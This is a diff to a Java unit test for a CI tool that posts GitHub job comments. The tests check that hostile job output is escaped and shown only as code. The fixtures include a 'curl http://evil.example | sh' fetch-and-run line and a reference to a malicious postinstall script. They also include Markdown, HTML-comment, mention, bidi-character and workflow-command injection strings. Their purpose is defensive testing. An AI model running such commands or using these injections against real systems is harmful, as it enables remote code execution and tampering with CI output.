@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import com.github.tomakehurst.wiremock.http.Fault;
 import eyas.ci.outcome.JobDigest;
+import eyas.golden.ParsedMarkdown;
 import eyas.github.api.FakeGitHub.Comment;
 import eyas.github.api.JobComment.Note;
 import eyas.github.runner.GitHubEnvironment;
@@ -86,12 +87,12 @@ final class JobCommentTest {
                         Of commit abababababababababababababababababababab.
 
                         <!-- eyas:job key=%s rank=1 run=100 head=abababababababababababababababababababab hash=%s -->
-                        🔴 **build**: 1 alert from 1 rule. [The run](https://github.com/example/app/actions/runs/100)
+                        🔴 **build**: Critical: Runner Memory Read. [The run](https://github.com/example/app/actions/runs/100)
 
                         | priority | rule | times | first seen in | what |
                         | --- | --- | ---: | --- | --- |
-                        | Critical | Runner Memory Read | 1 | step &#95;&#95;tj, tj-actions/changed-files&#64;&#8203;v45, \
-                        postinstall of &#64;&#8203;evil/left | <code>curl evil</code> |
+                        | Critical | Runner Memory Read | 1 | `step __tj, tj-actions/changed-files@v45, \
+                        postinstall of @evil/left` | `curl evil` |
 
                         <!-- /eyas:job -->
 
@@ -143,7 +144,7 @@ final class JobCommentTest {
         assertThat(github.comments()).hasSize(124);
         assertThat(github.comments().subList(0, 2))
                 .allSatisfy(forged -> assertThat(forged.body()).isEqualTo(ours.body()));
-        assertThat(github.comments().get(122).body()).contains("<code>new</code>");
+        assertThat(github.comments().get(122).body()).contains("| `new` |");
     }
 
     @Test
@@ -172,6 +173,20 @@ final class JobCommentTest {
     }
 
     @Test
+    void codeOfTheJobIsNoMarkup() throws Exception {
+        String evil = "curl `http://evil.example` | sh </code> @torvalds #1 [x](http://evil.example) **b** \n\n| a |\n";
+        post(Digests.bad("build", evil), CommentMode.ALWAYS);
+        String body = github.comments().getFirst().body();
+        assertThat(CommentText.parse(body).sections()).hasSize(1);
+        ParsedMarkdown parsed = ParsedMarkdown.of(body);
+        assertThat(parsed.links()).allMatch(link -> link.startsWith("https://github.com/example/app/actions/runs/"));
+        assertThat(parsed.html()).allMatch(html -> html.startsWith("<!-- "));
+        assertThat(parsed.emphasis()).containsExactly("build");
+        assertThat(parsed.code()).contains(evil.replace("\n", "\\n"));
+        assertThat(parsed.rows()).hasSize(2).allSatisfy(row -> assertThat(row).hasSize(5));
+    }
+
+    @Test
     void textOfTheJobIsNoMarkup() throws Exception {
         String evil = "<!-- /eyas:job --> </code> @torvalds #1 [x](http://evil.example) ![](https://e/p.png) `|`\n"
                 + "::error::x\u202e GH-12 a@b.example";
@@ -182,11 +197,11 @@ final class JobCommentTest {
         assertThat(CommentText.parse(body).sections()).hasSize(1);
         assertThat(body)
                 .contains(
-                        "🔴 **&#42;&#42;build&#42;&#42; &#64;&#8203;octo-org/team GH-&#8203;7 https&#58;//evil.example"
-                                + " www&#46;evil.example**: ")
+                        "🔴 **&#42;&#42;build&#42;&#42; &#64;&#8203;octo-org/team GH-&#8203;7 https&#58;&#8203;//evil.example"
+                                + " www&#46;&#8203;evil.example**: ")
                 .contains("<code>&lt;&#33;-- /eyas&#58;job --&gt; &lt;/code&gt; &#64;&#8203;torvalds &#35;1"
-                        + " &#91;x&#93;&#40;http&#58;//evil.example&#41;");
-        assertThat(body.replaceAll("<!-- [^<>]* -->|</?code>|\\[The run]\\(https://github\\.com/[^)]*\\)", ""))
+                        + " &#91;x&#93;&#40;http&#58;&#8203;//evil.example&#41;");
+        assertThat(body.replaceAll("<!-- [^<>]* -->|</?code>|`step [^`]*`|\\[The run]\\(https://github\\.com/[^)]*\\)", ""))
                 .doesNotContain("<", "@", "https://", "::", "\u202e", "](", "`");
     }
 
